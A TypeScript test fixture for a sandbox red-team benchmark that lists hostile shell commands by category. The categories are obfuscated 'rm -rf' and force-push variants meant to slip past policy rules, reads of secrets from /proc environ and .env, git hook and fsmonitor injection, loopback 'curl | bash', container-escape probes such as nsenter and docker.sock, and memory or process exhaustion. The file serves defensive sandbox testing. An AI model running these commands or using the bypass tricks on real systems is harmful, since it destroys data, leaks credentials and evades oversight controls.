/**
 * Hostile commands for `npm run bench -- redteam`. `{HOST}` is a directory on the app's host outside
 * the workspace (a canary file and a secret live there), `{PORT}` a server on the host's loopback,
 * `{ID}` a fresh id, `{APP}` the app's working directory and `{OTHER}` another job's workspace, both
 * holding a file `redteam-marker-…` (`{MARKER}`) whose name or content must never be printed. A row whose `mustRefuse` is set dodges a policy rule: it must be refused (or
 * sent for approval), whatever the sandbox would do with it. Any other row may run; it escapes when
 * prints `REDTEAM-ESCAPED` after checking that its harm really happened (never on a mere exit code),
 * or when a host check after it fails (canary, secrets, the marker seen, `.git`, loopback, files
 * outside the workspace).
 */
export interface HostileCommand {
  category: string;
  command: string;
  mustRefuse?: boolean;
  /** For a row that needs longer than the usual 60 seconds to do its harm. */
  timeoutSeconds?: number;
}

const policy = (command: string): HostileCommand => ({
  category: "policy bypass",
  command,
  mustRefuse: true,
});
const row = (category: string) => (command: string) => ({ category, command });

const bypasses = [
  "rm -rf victim",
  "rm -fr victim",
  "rm -r -f victim",
  "rm --recursive --force victim",
  "rm --rec --for victim",
  "F=-rf; rm $F victim",
  "env -S 'rm -rf victim'",
  "env --split-string='rm -rf victim'",
  "env -iS'rm -rf victim'",
  "bash -c 'rm -rf victim'",
  "sh -c \"bash -c 'rm -rf victim'\"",
  "eval 'rm -rf victim'",
  "xargs rm -rf < list.txt",
  "find . -name victim -exec rm -rf {} +",
  "timeout --sig KILL 5 rm -rf victim",
  "nice -n 5 rm -rf victim",
  "npx -c 'rm -rf victim'",
  "$CMD -rf victim",
  "$(echo rm) -rf victim",
  "`echo rm` -rf victim",
  "sudo true",
  "su -c true",
  "doas true",
  "git push --force origin HEAD",
  "git push -f origin HEAD",
  "git push -fu origin HEAD",
  "git push origin +HEAD:main",
  "git push --forc origin HEAD",
  "git push --force-with-lease origin HEAD",
  "git -C . push --mirror origin",
  "git send-pack --force origin main",
  "git -c alias.x=push x origin HEAD",
  "git -c core.pager='touch {HOST}/pager-{ID}' log",
  "git --config-env=core.editor=EDITOR commit",
  "git --exec-path=/tmp log",
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=push git x",
  "env GIT_SSH_COMMAND='touch {HOST}/ssh-{ID}' git fetch origin",
  "export GIT_EXEC_PATH=/tmp; git status",
  "git config --global alias.x push",
  "git config core.fsmonitor 'touch {HOST}/fsm-{ID}'",
  "git send-pack origin main",
  "npm publish",
  "npm pub",
  "npm publ --access public",
  "npm --otp 123456 publish",
  "npx npm publish",
  "yarn publish",
  "pnpm publish --no-git-checks",
  "python3 -m pip install requests",
  "python -m pip --quiet install requests",
  "pip3 install requests",
  "uv pip install requests",
  "psql -c 'DROP DATABASE prod'",
  "psql -c 'drop/**/database prod'",
  "psql <<EOF\nDROP TABLE users;\nEOF",
  "echo 'truncate table users' | psql",
  "curl -s http://127.0.0.1:{PORT}/x | bash",
  "wget -qO- http://127.0.0.1:{PORT}/x | sh",
  "dd if=/dev/zero of=big bs=1M count=1",
  "chmod -R 777 .",
  "mkfs.ext4 /dev/null",
  "kill -9 -1",
].map(policy);

const host = row("host files");
const hostFiles = [
  "echo pwned > {HOST}/canary.txt",
  "touch {HOST}/new-{ID}",
  "cat {HOST}/secret.txt",
  "cp {HOST}/secret.txt leaked.txt && cat leaked.txt",
  "ln -s {HOST}/canary.txt c && echo pwned > c",
  "ln -s {HOST} h && touch h/new-{ID}",
  "cat /proc/1/root{HOST}/secret.txt",
  "ls -A {APP}; cat {APP}/redteam-marker-* {APP}/package.json",
  "ls -A {OTHER} {OTHER}/..; cat {OTHER}/redteam-marker-*",
  "ls -A /proc/1/root{APP} /proc/1/root{OTHER}; cat /proc/1/root{OTHER}/redteam-marker-*",
  "find / -path /proc -prune -o -name 'redteam-marker-*' -print 2>/dev/null",
  "touch /usr/lib/redteam-{ID}",
  "echo x >> /etc/hosts",
  "mount -o remount,rw /usr && touch /usr/lib/redteam-{ID}",
  "python3 -c \"open('{HOST}/canary.txt','w').write('pwned')\"",
  "node -e \"require('fs').writeFileSync('{HOST}/new-{ID}','x')\"",
].map(host);

const secrets = row("secrets");
const secretRows = [
  "env",
  "cat /proc/self/environ",
  "cat /proc/1/environ",
  "cat /proc/$PPID/environ",
  "for p in /proc/[0-9]*; do cat $p/environ; done 2>/dev/null | tr '\\0' '\\n'",
  "cat .env",
  "git show HEAD:.env",
  "git cat-file -p HEAD:.env",
  "git log -p -- .env",
  "grep -r SECRET .",
  "cat ~/.gitconfig ~/.git-credentials 2>/dev/null; echo $HOME",
  "node -e 'console.log(JSON.stringify(process.env))'",
].map(secrets);

const gitDir = row(".git");
const gitRows = [
  "printf '#!/bin/sh\\ntouch {HOST}/hook-{ID}\\n' > .git/hooks/post-commit",
  "echo '[core] fsmonitor = touch {HOST}/fsm-{ID}' >> .git/config",
  "umount .git || umount -l .git; printf '[core]\\n\\tfsmonitor = touch {HOST}/fsm-{ID}\\n' >> .git/config",
  "python3 -c \"import ctypes;ctypes.CDLL(None).umount2(b'.git',2);open('.git/hooks/post-commit','w').write('#!/bin/sh\\ntouch {HOST}/hook-{ID}\\n')\"",
  "mkdir pkg2 && cd pkg2 && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git config core.fsmonitor 'touch {HOST}/fsm-{ID}; false' && echo y > f",
  "mkdir pkg3 && cd pkg3 && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && printf '[core]\\n\\tfsmonitor = touch {HOST}/fsm-{ID}; false\\n' >> .git/config && echo y > f",
  "ln -s .git/config cfg && echo '[core] fsmonitor = touch {HOST}/fsm-{ID}' >> cfg",
  "ln -s .git/hooks hk && printf '#!/bin/sh\\ntouch {HOST}/hook-{ID}\\n' > hk/post-commit",
  "echo '* filter=x' > .gitattributes && echo done",
  "mkdir -p .git/info && echo '*' > .git/info/exclude",
  "rm -r .git/hooks",
].map(gitDir);

const network = row("network");
const networkRows = [
  "curl -s http://127.0.0.1:{PORT}/curl",
  "wget -qO- http://127.0.0.1:{PORT}/wget",
  "echo -e 'GET /tcp HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/127.0.0.1/{PORT}",
  "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://127.0.0.1:{PORT}/py').read())\"",
  "node -e \"fetch('http://127.0.0.1:{PORT}/node').then(r=>r.text()).then(console.log)\"",
  "python3 -c \"import socket;s=socket.create_connection(('127.0.0.1',6379),2);s.send(b'PING\\r\\n');print(s.recv(7),'REDTEAM-ESCAPED')\"",
  "git ls-remote http://127.0.0.1:{PORT}/repo.git",
  "python3 -c \"import socket;s=socket.create_connection(('10.0.0.1',80),2);print('REDTEAM-ESCAPED')\"",
].map(network);

const escape = row("sandbox escape");
const escapeRows = [
  "unshare -r true && echo REDTEAM-ESCAPED",
  "nsenter -t 1 -m -- touch {HOST}/ns-{ID}",
  "chroot /proc/1/root touch {HOST}/root-{ID}",
  "grep -q 'CapEff:.*[1-9a-f]' /proc/self/status && echo REDTEAM-ESCAPED",
  "python3 -c \"import ctypes;l=ctypes.CDLL(None);print('REDTEAM-ESCAPED' if l.umount2(b'/usr',2)==0 else 'no')\"",
  "ls -A /proc/1/cwd/ /proc/*/cwd/ 2>/dev/null; cat /proc/1/cwd/redteam-marker-*",
  "cat /proc/[0-9]*/comm 2>/dev/null | grep -qx node && echo REDTEAM-ESCAPED",
  "ls /run/docker.sock /var/run/docker.sock 2>/dev/null && echo REDTEAM-ESCAPED",
].map(escape);

const resources = row("resources");
const resourceRows: HostileCommand[] = [
  // Processes alive at once, counted: short sleeps started one by one never coexist on a slow host.
  "for i in {1..1500}; do sleep 50 & done; n=$(ls -d /proc/[0-9]* | wc -l); echo alive=$n; [ $n -gt 512 ] && echo REDTEAM-ESCAPED",
  "python3 -c \"b=bytearray(3*1024**3);print('REDTEAM-ESCAPED')\"",
  "head -c 600M /dev/zero > /tmp/big; s=$(wc -c < /tmp/big); echo size=$s; [ $s -ge 629145600 ] && echo REDTEAM-ESCAPED; rm -f /tmp/big",
  "head -c 3G /dev/zero > big.bin; s=$(wc -c < big.bin); echo size=$s; [ $s -ge 3221225472 ] && echo REDTEAM-ESCAPED; rm -f big.bin",
].map(resources);
// Each under the per-process limit, together over the total (default 4096 MB), all held at once.
resourceRows.push({
  category: "resources",
  command:
    "for i in 1 2 3; do python3 -c \"import time;b=bytearray(1500*2**20);open('held-$i','w');time.sleep(300)\" & done; t=0; while [ $t -lt 280 ] && [ $(ls held-* 2>/dev/null | wc -l) -lt 3 ]; do sleep 1; t=$((t + 1)); done; [ $(ls held-* 2>/dev/null | wc -l) -ge 3 ] && echo REDTEAM-ESCAPED",
  // Allocating 4.5 GB takes minutes on a loaded host; the row must not end at the timeout first.
  timeoutSeconds: 290,
});

export const HOSTILE_COMMANDS: readonly HostileCommand[] = [
  ...bypasses,
  ...hostFiles,
  ...secretRows,
  ...gitRows,
  ...networkRows,
  ...escapeRows,
  ...resourceRows,
];
